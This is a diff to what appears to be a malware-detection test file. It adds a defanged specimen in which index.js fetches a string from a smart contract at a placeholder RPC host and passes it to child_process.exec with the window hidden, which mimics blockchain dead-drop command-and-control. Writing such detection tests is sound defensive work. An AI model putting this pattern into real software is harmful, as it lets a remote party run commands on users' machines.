@@ -8,6 +8,14 @@ const CHAIN = ['mainnet', 'infura', 'io'].join('.');
 examine(takesOrdersFromDeadDrop, {
   speaks: [
     {
+      when: 'what a contract says stands in a command, whichever computer is asked for it',
+      files: {
+        'index.js': `const { ethers } = require('ethers'); (async () => { const chain = new ethers.JsonRpcProvider('https://rpc.invalid'); const page = new ethers.Contract('0x0', ['function get() view returns (string)'], chain); require('child_process').exec('inert-fetch ' + (await page.get()), { windowsHide: true }); })();`,
+      },
+      says: ['a block chain'],
+      weight: 'proof',
+    },
+    {
       when: 'an installer asks which file of the newest release is meant for its system',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node get.js' } },
